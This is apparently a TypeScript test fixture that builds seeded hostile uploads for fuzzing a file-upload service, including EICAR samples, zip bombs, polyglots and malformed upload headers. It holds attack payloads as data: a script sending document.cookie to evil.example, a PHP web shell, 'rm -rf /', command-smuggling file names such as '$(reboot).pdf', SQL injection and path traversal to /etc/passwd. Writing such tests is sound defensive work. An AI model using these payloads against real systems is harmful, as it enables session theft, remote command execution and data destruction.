import { EICAR } from '../../../testing/fake-clamd.ts';
import { makeDocx, makeZip } from '../../../testing/make-zip.ts';
import { pdfOf } from '../documents.fixtures.ts';
import { allowedExtensions } from './file-types.ts';

/** One hostile upload: what is said of it and what is sent. */
export interface HostileUpload {
  readonly kind: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Upload-Length, where it lies. */
  readonly length?: string;
  /** Upload-Offset of the first piece, where it lies. */
  readonly offset?: string;
  readonly metadata?: string;
  /** Appended to /uploads instead of the id that was given. */
  readonly path?: string;
}

/** The same numbers every time (mulberry32). */
export function createDice(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const text = (content: string): Buffer => Buffer.from(content);
const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const pages = [
  `<!doctype html>${script}`,
  `<html><body onload=alert(1)>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  `\ufeff \n<script>alert(1)</script>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">`,
  `<iframe srcdoc="${script}">`,
];
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const gif = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=', 'base64');
const zeros = Buffer.alloc(11 * 1024 * 1024);
const bombs = [
  makeZip([{ name: 'zeros.txt', bytes: zeros }]),
  makeZip([{ name: 'zeros.txt', bytes: zeros, claimedBytes: 10 }]),
  makeZip([{ name: 'x', bytes: text('x'.repeat(500)), isStored: true }], { repeats: 300 }),
  makeZip([{ name: 'x', bytes: text('') }], { repeats: 10_001 }),
  makeDocx([{ name: 'word/media/zeros.bin', bytes: zeros }]),
];
const programs = [
  Buffer.concat([text('MZ'), Buffer.alloc(100)]),
  Buffer.from('7f454c4602010100', 'hex'),
  text('#!/bin/sh\nrm -rf /\n'),
  Buffer.from('cafebabe00000034', 'hex'),
  text('<?php system($_GET[0]);'),
];
const names = [
  '../../../../etc/passwd.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  '/etc/cron.d/a.pdf',
  'C:\\a.pdf',
  '\\\\server\\share\\a.pdf',
  'file:///etc/a.pdf',
  '%2e%2e%2fa.pdf',
  '..%c0%afa.pdf',
  'CON.pdf',
  'nul.pdf',
  'a\0.pdf',
  'a.pdf\0.html',
  'a\r\nSet-Cookie: x=1.pdf',
  'a";filename="b.html".pdf',
  "a';alert(1)//.pdf",
  '<img src=x onerror=alert(1)>.pdf',
  '\u202efdp.exe.pdf',
  'a.pdf ',
  '.pdf',
  '....pdf',
  `${'a'.repeat(900)}.pdf`,
  '🙂'.repeat(200) + '.pdf',
  '\ud800.pdf',
  '$(reboot).pdf',
  '`id`.pdf',
  '{{7*7}}.pdf',
  '=cmd|a!A1.pdf',
  'constructor.pdf',
  '__proto__.pdf',
  'alpha.pdf',
  '*.pdf',
  'a:b:c.pdf',
  'NUL.tar.pdf',
  'a/../../b.pdf',
  './a.pdf',
  '~root.pdf',
] as const;
const runs = [
  'html',
  'htm',
  'svg',
  'xhtml',
  'xml',
  'js',
  'mjs',
  'exe',
  'bat',
  'cmd',
  'com',
  'ps1',
  'vbs',
  'hta',
  'jar',
  'php',
  'jsp',
  'aspx',
  'sh',
  'lnk',
  'url',
  'docm',
  'xlsm',
  'swf',
  'wasm',
  'mht',
  'pdf.exe',
  'txt.html',
  '',
];
const lengths = ['-1', '0', '1', '99999999999999999999', 'NaN', '1e3', '0x10', ' ', '1048577', '10, 20'];
const offsets = ['-1', '1', '999999', 'NaN', '0x0', '9007199254740993', '1e9', '00'];
const metadata = [
  'name',
  'name ====',
  `name ${'A'.repeat(4000)}`,
  'name YQ==,name Yg==',
  '\u00ff',
  'matterId Li4vLi4v',
  `name ${text('a.pdf').toString('base64')},matterId ${text("' or 1=1 --").toString('base64')}`,
  '',
];
const paths = [
  '/..%2f..%2fetc%2fpasswd',
  '/%00',
  '/../graphql',
  '/.json',
  '/a.json',
  '/00000000-0000-0000-0000-000000000000',
  '/%2e%2e',
  `/${'a'.repeat(300)}`,
  '/con',
  '/..%5c..%5ca',
];

const kinds: Readonly<Record<string, (dice: (below: number) => number) => Omit<HostileUpload, 'kind'>>> = {
  virus: (dice) => {
    const padding = 'x'.repeat(dice(200));
    const way = dice(4);
    if (way === 0) return { name: 'letter.txt', bytes: text(EICAR) };
    if (way === 1) return { name: 'letter.txt', bytes: text(`${padding}\n${EICAR}`) };
    if (way === 2)
      return {
        name: 'bundle.zip',
        bytes: makeZip([{ name: 'letter.txt', bytes: text(padding + EICAR), isStored: true }]),
      };
    return { name: 'letter.pdf', bytes: pdfOf(EICAR) };
  },
  page: (dice) => ({ name: `page.${pick(dice, allowedExtensions)}`, bytes: text(pick(dice, pages)) }),
  openPage: (dice) => ({ name: `page.${pick(dice, runs)}`, bytes: text(pick(dice, pages)) }),
  polyglot: (dice) => {
    const archive = makeZip([{ name: 'index.html', bytes: text(pick(dice, pages)) }], {
      comment: 'c'.repeat(dice(50)),
    });
    const [name, first] = pick(dice, [
      ['a.png', png],
      ['a.gif', gif],
      ['a.pdf', pdfOf('x')],
      ['a.zip', text(pick(dice, pages))],
      ['a.docx', text('%PDF-1.7\n')],
      ['a.txt', text('hello ')],
    ] as const);
    return { name, bytes: Buffer.concat([first, archive]) };
  },
  // These are what they say, and a page besides: saved as a file they do no harm.
  pictureWithPage: (dice) => {
    const [name, first] = pick(dice, [
      ['a.png', png],
      ['a.gif', gif],
      ['a.pdf', pdfOf('x')],
    ] as const);
    return { name, bytes: Buffer.concat([first, text(pick(dice, pages))]) };
  },
  bomb: (dice) => ({ name: pick(dice, ['a.zip', 'a.docx', 'a.xlsx']), bytes: pick(dice, bombs) }),
  name: (dice) => ({ name: pick(dice, names), bytes: pdfOf(`name ${dice(1000)}`) }),
  program: (dice) => ({ name: `a.${pick(dice, [...allowedExtensions, ...runs])}`, bytes: pick(dice, programs) }),
  length: (dice) => ({ name: 'a.pdf', bytes: pdfOf('length'), length: pick(dice, lengths) }),
  offset: (dice) => ({ name: 'a.pdf', bytes: pdfOf('offset'), offset: pick(dice, offsets) }),
  metadata: (dice) => ({ name: 'a.pdf', bytes: pdfOf('metadata'), metadata: pick(dice, metadata) }),
  path: (dice) => ({ name: 'a.pdf', bytes: pdfOf('path'), path: pick(dice, paths) }),
};
const kindNames = Object.keys(kinds);

function pick<Item>(dice: (below: number) => number, items: readonly Item[]): Item {
  const item = items[dice(items.length)];
  if (item === undefined) throw new Error('There is nothing to pick from');
  return item;
}

/** So many hostile uploads of every kind in turn, the same for the same seed. */
export function makeHostileUploads(count: number, seed: number): HostileUpload[] {
  const dice = createDice(seed);
  return Array.from({ length: count }, (_, index) => {
    const kind = kindNames[index % kindNames.length] ?? '';
    const make = kinds[kind];
    if (make === undefined) throw new Error(`There is no kind ${kind}`);
    return { kind, ...make(dice) };
  });
}
